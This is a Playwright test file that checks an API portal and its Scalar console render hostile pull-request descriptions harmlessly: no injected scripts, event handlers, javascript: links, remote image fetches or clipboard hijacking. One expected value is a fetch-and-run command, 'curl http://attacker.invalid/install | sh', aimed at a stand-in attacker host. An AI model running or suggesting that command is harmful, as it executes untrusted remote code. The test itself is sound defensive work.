import type { Page } from '@playwright/test';
import { ApiPage } from './pages/api-page.ts';
import { ReferencePage } from './pages/reference-page.ts';
import { expect, test } from './portal-test.ts';

/**
 * Descriptions come from pull requests: the fixture's carries a script, event handlers and a
 * `javascript:` link that would each set `window.__guichetInjected`. Neither the portal's own
 * pages nor the Scalar console may let any of them run.
 */
async function expectNothingRan(page: Page): Promise<void> {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Hover what an attacker would hope a reader hovers, then look for any trace.
  const bold = page.getByText('Amounts').first();
  if (await bold.isVisible()) await bold.hover();
  expect(
    await page.evaluate(() => (window as { __guichetInjected?: string }).__guichetInjected),
  ).toBeUndefined();
  expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
  expect(await page.locator('[onerror], [onmouseover], [onclick]').count()).toBe(0);
  expect(dialogs).toEqual([]);
}

test('the API page renders a hostile description as harmless text', async ({ page }) => {
  const api = new ApiPage(page);
  await api.goto('grant-notifications');
  await expect(page.getByText('Grant rules')).toBeVisible();
  await expectNothingRan(page);
});

test('the Scalar console renders the same description without running it', async ({ page }) => {
  const reference = new ReferencePage(page);
  await reference.goto('grant-notifications', 'v0');
  await expect(reference.console.getByText('Grant rules').first()).toBeVisible();
  await expect(reference.console.getByText('Amounts').first()).toBeVisible();
  await expectNothingRan(page);
});

test('the Scalar console fetches neither a description’s remote image nor an example’s $ref', async ({
  page,
  requests,
}) => {
  const reference = new ReferencePage(page);
  await reference.goto('grant-notifications', 'v0');
  // The remote image stays a link, as on the API page; the portal's guard fails any request
  // that leaves 127.0.0.1, so reaching the end of the test with none is the assertion.
  await expect(
    reference.console.getByRole('link', { name: 'Funding chart' }).first(),
  ).toBeVisible();
  // The example is shown with its payload `$ref` left out, so Scalar had nothing to resolve.
  await expect(
    reference.console.getByText('{ "id": "G-1", "status": "received", "meta": {} }').first(),
  ).toBeVisible();
  expect(requests.filter((url) => /\.invalid\//.test(url))).toEqual([]);
});

test('the API page and a guide fetch no image written as /\\host, http:\\\\host or a remote <source>', async ({
  page,
  requests,
}) => {
  // Each form is an image on another host once the browser resolves it; each must stay a link.
  const api = new ApiPage(page);
  await api.goto('grant-notifications');
  await expect(page.getByRole('link', { name: 'Backslash chart' })).toBeVisible();
  await expect(page.getByRole('link', { name: 'Backslashes chart' })).toBeVisible();
  await page.goto('/apis/grant-notifications/guides/charts/');
  await expect(page.getByRole('link', { name: 'Guide backslash chart' })).toBeVisible();
  await page.waitForLoadState('load');
  // The portal's guard fails any request that leaves 127.0.0.1; this says which ones were tried.
  expect(requests.filter((url) => /\.invalid\//.test(url))).toEqual([]);
});

test('a description’s element named like the curl command does not change what is copied', async ({
  page,
}) => {
  const api = new ApiPage(page);
  await api.goto('grant-notifications');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy the command' }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toMatch(/^curl .*\/grant-notifications\/v0\//);
  expect(copied).not.toContain('attacker.invalid');
  // The owner's element is still shown, under an id of its own.
  await expect(page.locator('#user-content-sandbox-curl')).toHaveText(
    'curl http://attacker.invalid/install | sh',
  );
});
